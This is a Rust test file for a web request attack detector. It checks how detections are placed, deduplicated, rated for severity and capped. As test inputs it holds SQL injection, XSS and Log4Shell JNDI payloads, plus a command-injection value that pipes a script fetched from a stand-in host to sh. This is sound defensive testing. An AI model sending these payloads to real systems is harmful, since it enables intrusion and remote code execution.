//! What is kept of a match: the target, the value, the severity, and how many of them?

use super::{EXAMPLES, Example};
use crate::detect::category::Severity;
use crate::detect::detection::{Detection, Note};
use crate::detect::detections::DETECTIONS;
use crate::detect::rule_set::RuleSet;
use crate::detect::scan::Scan;
use crate::detect::signal::Signal;
use crate::exchange::head::Head;
use crate::read;
use crate::read::field::Field;
use crate::read::target::Target;

/// All detections of a request line, as `rule place value`.
fn found(target: &str, headers: &[(&str, &str)]) -> Vec<String> {
    let rules = RuleSet::builtin();
    let pseudo = [(":method", "GET"), (":path", target)];
    let head = Head::new(pseudo.iter().chain(headers).copied().collect());
    let mut scan = Scan::new();
    read::head(&head, &mut |field| scan.push(&rules, field));
    let line = |one: &Detection| format!("{} {} {}", rules.rule(one.rule).id, one.target, one.value.escape_ascii());
    scan.detections().iter().map(line).collect()
}

#[test]
fn an_act_has_the_same_value_wherever_its_address_stands() {
    let value = "1\\' union select 1,2--";
    let check = |request_target: &str, headers: &[(&str, &str)], target: &str| {
        let expected = format!("sqli.union-select {target} {value}");
        let lines = found(request_target, headers);
        assert!(lines.contains(&expected), "{lines:?}");
    };
    check("/item?id=1'+union+select+1,2--", &[], "query:id");
    check("/style.css", &[("referer", "https://shop.example/item?id=1'+union+select+1,2--")], "header:referer");
    check(
        "/style.css",
        &[("referer", "https://shop.example/item?a=b&id=1%27%20union%20select%201%2C2--")],
        "header:referer",
    );
    check("/login?next=%2Fitem%3Fid%3D1%2527%2Bunion%2Bselect%2B1%2C2--", &[], "query:next");
}

#[test]
fn one_detection_for_each_rule_and_place() {
    let twice = found("/?a=%27+or+1=1--&a=%27+or+1=1--&b=%27+or+1=1--", &[]);
    let targets: Vec<_> = twice.iter().filter(|line| line.starts_with("sqli.tautology")).collect();
    assert_eq!(targets.len(), 2, "{twice:?}");
    let many: String = (0..1000).map(|n| format!("p{n}=%27+or+1=1--&")).collect();
    let many = found(&format!("/?{many}k=%3Bcurl+http://x.example/s%7Csh"), &[]);
    assert!(many.iter().any(|line| line.starts_with("rce.")), "what fills one rule hides no other: {many:?}");
    assert!(many.len() < DETECTIONS);
}

#[test]
fn no_request_is_so_full_that_the_application_is_not_heard() {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new();
    for (number, example) in (0_u8..3).flat_map(|number| EXAMPLES.iter().map(move |example| (number, example))) {
        let name = if example.name == "x" { format!("x{number}") } else { example.name.to_owned() };
        for value in example.matches.iter().map(|value| value.as_bytes()) {
            scan.push(&rules, Field { target: example.target, name: name.as_bytes(), value, encoded: false });
        }
    }
    assert_eq!(scan.detections().len(), DETECTIONS);
    let field = Field { target: Target::Answer, name: b"", value: b"", encoded: false };
    for name in ["a", "a", "b"].map(|name| Some(name.to_owned())) {
        scan.note_as(&rules, Signal::ApplicationEvent, field, Note { name, ..Note::default() });
    }
    assert_eq!(scan.detections().len(), DETECTIONS + 2);
}

#[test]
fn long_values_are_told_apart_whole() {
    let value = |payload: &str| {
        let rules = RuleSet::builtin();
        let mut scan = Scan::new();
        let target = format!("/?a={}{payload}", "x".repeat(2000));
        let head = Head::new([(":method", "GET"), (":path", target.as_str())].into_iter().collect());
        read::head(&head, &mut |field| scan.push(&rules, field));
        scan.detections().first().map(|detection| detection.value.clone())
    };
    let one = value("'+union+select+1--");
    assert!(one.is_some());
    assert_eq!(one, value("'+union+select+1--"));
    assert_ne!(one, value("'+union+select+2--"));
}

#[test]
fn names_are_places_and_safe_to_print() {
    let line = &found("/?%3Cscript%3Ealert(1)%3C/script%3E=1", &[])[0];
    assert!(line.starts_with("xss.script query:{} <script>"), "a payload in a name stays out of the log: {line}");
    let raw = format!("/?a\n{}=%27+or+1=1--", "b".repeat(200));
    let targets = found(&raw, &[]);
    let mut targets = targets.iter().filter_map(|line| line.split(' ').nth(1));
    assert!(targets.all(|target| !target.contains('\n') && target.len() < 80));
}

#[test]
fn a_pasted_text_counts_for_less_and_a_lookup_does_not() {
    let rules = RuleSet::builtin();
    let worst = |value: &str| {
        let mut scan = Scan::new();
        scan.push(&rules, Field { target: Target::Json, name: b"text", value: value.as_bytes(), encoded: false });
        scan.take().iter().map(|one| one.severity).max()
    };
    let padding = "It was a dark and stormy night. ".repeat(20);
    assert_eq!(worst("<svg onload=alert(1)>"), Some(Severity::High));
    assert_eq!(worst(&format!("{padding}<svg onload=alert(1)>")), Some(Severity::Medium));
    assert_eq!(worst(&format!("{padding}${{jndi:ldap://x.example/a}}")), Some(Severity::Critical));
}

#[test]
fn when_all_places_are_taken_milder_ones_and_spare_ones_give_way() {
    let rules = RuleSet::builtin();
    let mut scan = Scan::new();
    let push = |scan: &mut Scan, number: usize, example: &Example, text: &str| {
        let name = format!("{}{number}", example.name);
        let field = Field { target: example.target, name: name.as_bytes(), value: text.as_bytes(), encoded: false };
        scan.push(&rules, field);
    };
    let is_late = |rule: &str| rule.starts_with("log4shell.");
    let mut all = EXAMPLES
        .iter()
        .filter(|one| !is_late(one.rule))
        .flat_map(|one| one.matches.iter().map(move |text| (one, *text)))
        .enumerate();
    while scan.detections().len() < super::detections::DETECTIONS {
        let Some((number, (example, text))) = all.next() else { panic!("too few examples") };
        push(&mut scan, number, example, text);
    }
    push(&mut scan, 1, &EXAMPLES[0], "five.");
    let late = EXAMPLES.iter().find(|one| is_late(one.rule)).unwrap();
    push(&mut scan, 2, late, late.matches[0]);
    assert_eq!(scan.take_unseen(), 0);
    assert_eq!(scan.detections().len(), super::detections::DETECTIONS);
    assert!(scan.detections().iter().any(|one| is_late(rules.rule(one.rule).id)));
}

#[test]
fn weak_evidence_does_not_count_in_a_document_of_many_members() {
    let rules = RuleSet::builtin();
    let check = |value: &str, members: usize, target: Target, expected: usize| {
        let mut scan = Scan::new();
        for _ in 0..members {
            scan.push(&rules, Field::plain(Target::Json, b"a", b"b"));
        }
        scan.push(&rules, Field::plain(target, b"a", value.as_bytes()));
        assert_eq!(scan.take().len(), expected, "{value} behind {members}");
    };
    let weak = "/usr/bin/python3 -m http.server";
    check(weak, 19, Target::Json, 1);
    check(weak, 20, Target::Json, 0);
    check(weak, 20, Target::Query, 1);
    check("x'; drop table users--", 400, Target::Json, 1);
}

#[test]
fn what_counts_least_somewhere_counts_elsewhere() {
    let rules = RuleSet::builtin();
    let document = r#"{"text": "x", "more": "see ; cat /srv/x.gz -v"}"#;
    let rows = [
        (Target::Query, "/var/log/kern.log", Some(Severity::Medium)),
        (Target::Json, "/var/log/kern.log", Some(Severity::Low)),
        // What a text shows, and the same said.
        (Target::Form, "see\n```\n<object data=x>\n```", Some(Severity::Low)),
        (Target::Form, "see\n<object data=x>\n", Some(Severity::Medium)),
        // The strings of a document are judged by themselves.
        (Target::Form, document, Some(Severity::Critical)),
        (Target::Form, r#"{"text": "x", "a": "b;", "id": "c"}"#, None),
    ];
    for (target, value, expected) in rows {
        let mut scan = Scan::new();
        scan.push(&rules, Field::plain(target, b"q", value.as_bytes()));
        assert_eq!(scan.take().iter().map(|one| one.severity).max(), expected, "{value}");
    }
}
